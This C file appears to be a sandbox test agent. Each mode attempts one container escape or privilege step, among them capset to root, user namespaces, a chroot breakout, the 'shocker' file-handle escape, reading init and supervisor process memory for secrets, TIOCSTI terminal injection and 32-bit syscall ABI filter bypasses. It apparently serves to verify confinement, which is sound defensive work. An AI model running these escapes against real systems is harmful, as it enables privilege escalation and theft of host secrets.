/* Kernel-surface agents: each mode makes one call that a confined agent must never complete
 * (privilege, namespaces, mounts, kernel interfaces, other syscall ABIs).  On success the agent
 * uses what it gained to try the way out (beacon), which the test then finds outside. */
#include "agent.h"
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <grp.h>
#include <termios.h>

static int gained(const char *what) {
    beacon(what);
    return BREACHED;
}

static int regain_capabilities(void) {
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    memset(data, 0xff, sizeof data);
    if (syscall(SYS_capset, &header, data) == 0) return gained("capset");
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0) == 0)
        return gained("ambient");
    memset(data, 0, sizeof data);
    if (syscall(SYS_capget, &header, data) == 0 && (data[0].effective || data[1].effective)) {
        printf("effective capabilities %x %x\n", data[0].effective, data[1].effective);
        return gained("capabilities-held");
    }
    return refused("capset");
}

static int in_new_user_namespace(long flags) {
    pid_t pid = (pid_t)syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid < 0) return refused("clone CLONE_NEWUSER");
    if (pid == 0) {
        beacon("clone-newuser");
        _exit(BREACHED);
    }
    waitpid(pid, NULL, 0);
    return BREACHED;
}

struct clone3_args { unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal,
                     stack, stack_size, tls, set_tid, set_tid_size, cgroup; };

static int clone3_new_user(void) {
    struct clone3_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid < 0) return refused("clone3 CLONE_NEWUSER");
    if (pid == 0) {
        beacon("clone3");
        _exit(BREACHED);
    }
    waitpid((pid_t)pid, NULL, 0);
    return BREACHED;
}

static int chroot_escape(void) {
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") != 0) return refused("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) return refused("chroot .");
    return gained("chroot");
}

static int pivot(void) {
    mkdir("/tmp/new", 0700);
    mkdir("/tmp/new/old", 0700);
    if (syscall(SYS_pivot_root, "/tmp/new", "/tmp/new/old") != 0) return refused("pivot_root");
    return gained("pivot_root");
}

/* The "shocker" attack: a handle for inode 2 (the root of an ext4 file system) opened
 * through any descriptor on the same file system reaches the host's root directory. */
static int shocker(void) {
    struct { struct file_handle handle; unsigned int ids[2]; } root = {
        .handle = {.handle_bytes = 8, .handle_type = 1}, .ids = {2, 0}};
    int mount_fd = open("/", O_RDONLY);
    int fd = open_by_handle_at(mount_fd, &root.handle, O_RDONLY);
    if (fd < 0) return refused("open_by_handle_at");
    char path[4096];
    snprintf(path, sizeof path, "%s/secret-root", evidence_dir() + 1);
    int secret = openat(fd, path, O_RDONLY);
    char buf[256] = {0};
    if (secret >= 0 && read(secret, buf, sizeof buf - 1) > 0) printf("host secret %s\n", buf);
    return gained("open_by_handle_at");
}

static int keyring(void) {
    long key = syscall(SYS_add_key, "user", "hostile", "payload", 7, -4 /* user keyring */);
    if (key < 0) return refused("add_key");
    return gained("add_key");
}

static int bpf_map(void) {
    union bpf_attr attr = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4,
                           .max_entries = 1};
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr) < 0) return refused("bpf");
    return gained("bpf");
}

static int perf(void) {
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr,
                                   .config = PERF_COUNT_SW_CPU_CLOCK, .disabled = 1};
    if (syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0) < 0) return refused("perf_event_open");
    return gained("perf_event_open");
}

static int uffd(void) {
    if (syscall(SYS_userfaultfd, O_CLOEXEC) < 0) return refused("userfaultfd");
    return gained("userfaultfd");
}

static int uring(void) {
    struct io_uring_params params = {0};
    if (syscall(SYS_io_uring_setup, 8, &params) < 0) return refused("io_uring_setup");
    return gained("io_uring");
}

/* Push a command into the caller's terminal input; the test reads its tty afterwards. */
static int tiocsti(void) {
    const char *command = "hostile-tiocsti\n";
    int pushed = 0;
    for (int fd = 0; fd < 3; fd++)
        for (const char *c = command; *c; c++) pushed += ioctl(fd, TIOCSTI, c) == 0;
    if (!pushed) return refused("TIOCSTI");
    return gained("tiocsti");
}

static int dump(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return refused(path);
    char buf[8192];
    ssize_t n = read(fd, buf, sizeof buf);
    printf("%s: ", path);
    for (ssize_t i = 0; i < n; i++) putchar(buf[i] ? buf[i] : ' ');
    putchar('\n');
    close(fd);
    return 0;
}

static int proc_one(void) {
    int seen = dump("/proc/1/environ") == 0;
    seen |= dump("/proc/1/cmdline") == 0;
    drop_marker("/proc/1/root", "proc-1-root");
    return seen ? EX_TEMPFAIL : refused("/proc/1");
}

/* Read the compartment's init: its environment, and its memory, looking for a secret that only
 * the caller's process held (the init is a fork of the supervisor). */
static int init_memory(const char *needle) {
    int seen = dump("/proc/1/environ") == 0;
    FILE *maps = fopen("/proc/1/maps", "r");
    int mem = open("/proc/1/mem", O_RDONLY);
    if (!maps || mem < 0) return seen ? EX_TEMPFAIL : refused("/proc/1/mem");
    static char chunk[1 << 20];
    char line[512];
    int found = 0;
    while (fgets(line, sizeof line, maps) && found < 3) {
        unsigned long start, end;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3 || perms[0] != 'r') continue;
        for (unsigned long at = start; at < end && found < 3; at += sizeof chunk) {
            size_t want = end - at < sizeof chunk ? end - at : sizeof chunk;
            ssize_t n = pread(mem, chunk, want, (off_t)at);
            if (n <= 0) break;
            char *hit = memmem(chunk, (size_t)n, needle, strlen(needle));
            if (hit && hit + 40 <= chunk + n) {
                printf("init memory holds: %.40s\n", hit);
                found++;
            }
        }
    }
    return found ? gained("init-mem") : EX_TEMPFAIL;
}

static int supervisor_memory(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", supervisor_pid());
    dump(path);
    snprintf(path, sizeof path, "/proc/%d/root", supervisor_pid());
    drop_marker(path, "supervisor-root");
    snprintf(path, sizeof path, "/proc/%d/mem", supervisor_pid());
    int fd = open(path, O_RDWR);
    if (fd < 0) return refused(path);
    return gained("supervisor-mem");
}

static int sysfs(void) {
    static const char *const groups[] = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids",
                                         "/sys/fs/cgroup"};
    char path[256];
    for (unsigned i = 0; i < sizeof groups / sizeof *groups; i++) {
        snprintf(path, sizeof path, "%s/%s", groups[i], case_arg(1));
        if (mkdir(path, 0755) == 0) return gained("sysfs");
    }
    int fd = open("/sys/kernel/uevent_helper", O_WRONLY);
    if (fd >= 0) return gained("sysfs-write");
    return refused("mkdir in /sys/fs/cgroup");
}

static int kmsg(void) {
    int fd = open("/dev/kmsg", O_WRONLY);
    if (fd < 0) return refused("/dev/kmsg");
    char line[128];
    int n = snprintf(line, sizeof line, "%s\n", case_arg(1));
    if (write(fd, line, n) != n) return refused("write /dev/kmsg");
    return gained("kmsg");
}

/* The 32-bit ABI through int $0x80: a filter that only knows x86_64 numbers misses these.
 * Pointers must fit in 32 bits, so the agent is linked static and not position-independent. */
static long i386_call(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

static struct sockaddr_in i386_target;

static int i386(const char *what) {
    long ret;
    if (!strcmp(what, "unshare")) ret = i386_call(310, CLONE_NEWUSER, 0, 0);
    else if (!strcmp(what, "mount")) ret = i386_call(21, (long)"none", (long)"/tmp", (long)"tmpfs");
    else if (!strcmp(what, "keyctl")) ret = i386_call(288, 0 /* GET_KEYRING_ID */, -4, 1);
    else if (!strcmp(what, "setuid")) ret = i386_call(213, 0, 0, 0);
    else if (!strcmp(what, "socket")) {
        ret = i386_call(359, AF_INET, SOCK_STREAM, 0);
        if (ret >= 0) {
            i386_target.sin_family = AF_INET;
            i386_target.sin_port = htons(tcp_port());
            i386_target.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
            i386_call(362, ret, (long)&i386_target, sizeof i386_target);
        }
    } else return 64;
    if (ret < 0) {
        errno = (int)-ret;
        return refused(what);
    }
    printf("i386 %s returned %ld\n", what, ret);
    return gained("i386");
}

static int x32_unshare(void) {
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(0x40000000L | SYS_unshare), "D"(CLONE_NEWUSER)
                     : "rcx", "r11", "memory");
    if (ret < 0) {
        errno = (int)-ret;
        return refused("x32 unshare");
    }
    return gained("x32");
}

int main(int argc, char **argv) {
    setup(argc, argv);
    const char *mode = case_arg(0);
    if (!strcmp(mode, "setuid0")) return setuid(0) == 0 && getuid() == 0 ? gained("setuid") : refused("setuid(0)");
    if (!strcmp(mode, "setgroups0")) { gid_t root = 0; return setgroups(1, &root) == 0 ? gained("setgroups") : refused("setgroups"); }
    if (!strcmp(mode, "capset")) return regain_capabilities();
    if (!strcmp(mode, "exec")) { execv(case_arg(1), (char *[]){(char *)case_arg(1), NULL}); return refused(case_arg(1)); }
    if (!strcmp(mode, "unshare")) return unshare(CLONE_NEWUSER) == 0 ? gained("unshare") : refused("unshare");
    if (!strcmp(mode, "unshare-mount")) return unshare(CLONE_NEWNS) == 0 ? gained("unshare-mount") : refused("unshare");
    if (!strcmp(mode, "clone-newuser")) return in_new_user_namespace(CLONE_NEWUSER | CLONE_NEWNS);
    if (!strcmp(mode, "clone3-newuser")) return clone3_new_user();
    if (!strcmp(mode, "setns")) return setns(0, 0) == 0 ? gained("setns") : refused("setns");
    if (!strcmp(mode, "mount")) return mount("none", "/tmp", "tmpfs", 0, NULL) == 0 ? gained("mount") : refused("mount");
    if (!strcmp(mode, "umount")) return umount2("/usr", MNT_DETACH) == 0 ? gained("umount") : refused("umount2");
    if (!strcmp(mode, "chroot")) return chroot_escape();
    if (!strcmp(mode, "pivot-root")) return pivot();
    if (!strcmp(mode, "open-by-handle")) return shocker();
    if (!strcmp(mode, "keyctl")) return keyring();
    if (!strcmp(mode, "bpf")) return bpf_map();
    if (!strcmp(mode, "perf")) return perf();
    if (!strcmp(mode, "userfaultfd")) return uffd();
    if (!strcmp(mode, "io-uring")) return uring();
    if (!strcmp(mode, "tiocsti")) return tiocsti();
    if (!strcmp(mode, "proc1")) return proc_one();
    if (!strcmp(mode, "supervisor-mem")) return supervisor_memory();
    if (!strcmp(mode, "init-mem")) return init_memory(case_arg(1));
    if (!strcmp(mode, "sysfs")) return sysfs();
    if (!strcmp(mode, "kmsg")) return kmsg();
    if (!strcmp(mode, "i386")) return i386(case_arg(1));
    if (!strcmp(mode, "x32")) return x32_unshare();
    if (!strcmp(mode, "iopl")) return syscall(SYS_iopl, 3) == 0 ? gained("iopl") : refused("iopl");
    if (!strcmp(mode, "init-module")) {
        int fd = open("/dev/null", O_RDONLY);
        return syscall(SYS_finit_module, fd, "", 0) == 0 ? gained("module") : refused("finit_module");
    }
    fprintf(stderr, "kernel: unknown mode %s\n", mode);
    return 64;
}
